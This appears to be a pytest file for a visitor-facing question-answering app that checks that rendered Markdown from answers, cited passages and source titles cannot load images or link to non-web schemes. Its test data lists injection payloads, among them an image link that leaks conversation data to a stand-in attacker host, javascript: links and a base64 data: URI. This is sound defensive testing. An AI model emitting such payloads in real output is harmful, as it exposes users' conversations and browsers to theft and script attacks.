"""What the app renders from the knowledge base or a model can make the browser fetch nothing and
can only link to http(s) pages. Checked on the HTML a CommonMark renderer makes of our Markdown."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from agents.answer.model import Answer, Citation
from app_ui.labels import Labels
from app_ui.presenters import answer_markdown, passage_markdown, safe_markdown, source_label, source_markdown
from app_ui.visitor_view import VisitorAnswer, VisitorPassage, visitor_answer

ENGLISH = Labels("en")

ATTACKS = [
    "![t](https://attacker.example/leak.png?d=conversation)",
    "![logo][img]\n\n[img]: https://attacker.example/logo.png",
    '<img src="https://attacker.example/x.png">',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[ok](<https://example.org/a> [evil](javascript:alert(1)))",
]


def _view(text: str, title: str, url: str) -> VisitorAnswer:
    """The visitor's view of an answer citing one source, as the agent's typed answer carries it."""
    return visitor_answer(Answer(text=text, citations=[Citation(number=1, title=title, source=url)]))


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": False}).render(markdown)


def _assert_harmless(html: str) -> None:
    assert "<img" not in html
    assert all(href.startswith(("http://", "https://")) for href in re.findall(r'href="([^"]*)"', html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_cannot_load_an_image_or_link_to_another_scheme(attack: str) -> None:
    view = _view(f"Voici [1]. {attack}", "A", "https://a.org")
    _assert_harmless(_html(answer_markdown(view)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_being_streamed_cannot_either(attack: str) -> None:
    _assert_harmless(_html(safe_markdown(f"Voici [1]. {attack}")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cited_passage_cannot_either(attack: str) -> None:
    passage = VisitorPassage(passage=1, section=attack, text=f"Texte.\n{attack}")
    _assert_harmless(_html(passage_markdown(passage, ENGLISH)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_source_title_cannot_either(attack: str) -> None:
    view = _view("Voir [1].", attack, "https://a.org")
    _assert_harmless(
        _html(source_label(view.sources[0]) + "\n\n" + source_markdown(view.sources[0], ENGLISH))
    )


def _source_html(url: str, operator: bool = False) -> str:
    view = _view("Voir [1].", "Page", url)
    return _html(source_markdown(view.sources[0], ENGLISH, operator=operator))


def test_a_source_url_holding_markdown_stays_one_link_to_itself() -> None:
    url = "https://example.org/page>)[evil](javascript:alert(1)"

    for operator in (False, True):
        html = _source_html(url, operator)
        _assert_harmless(html)
        assert html.count("<a ") == 1 and "evil" not in html.split("</a>")[1].split("<code>")[0]


def test_a_source_that_is_not_a_web_page_is_not_a_link() -> None:
    assert "<a " not in _source_html("data:text/html,x") + _source_html("data:text/html,x", operator=True)


SITE = "https://www.chateauversailles.fr"


@pytest.mark.parametrize(
    ("text", "after"),
    [
        (f"如需更多信息，请访问官方网站 {SITE}。谢谢", "。谢谢"),
        (f"詳しくは公式サイト {SITE}。", "。"),
        (f"公式サイト（{SITE}）をご覧ください。", "）をご覧ください。"),
        (f"Consultez le site officiel : {SITE}.", "."),
        (f"Voir {SITE}, puis la billetterie.", ", puis la billetterie."),
        (f"Please check the official website {SITE}!", "!"),
        (f"«{SITE}»", "»"),
    ],
)
def test_a_bare_url_links_without_the_punctuation_after_it(text: str, after: str) -> None:
    for markdown in (safe_markdown(text), answer_markdown(_view(text, "A", SITE))):
        html = _html(markdown)
        assert re.findall(r'href="([^"]*)"', html) == [SITE], html
        assert f">{SITE}</a>{after}" in html, html


def test_a_url_with_brackets_or_accents_keeps_them() -> None:
    wiki = "https://en.wikipedia.org/wiki/Versailles_(city)"
    html = _html(safe_markdown(f"See ({wiki})."))
    assert re.findall(r'href="([^"]*)"', html) == [wiki]
    html = _html(safe_markdown("Voir https://fr.wikipedia.org/wiki/Château_de_Versailles !"))
    assert re.findall(r'href="([^"]*)"', html) == ["https://fr.wikipedia.org/wiki/Ch%C3%A2teau_de_Versailles"]
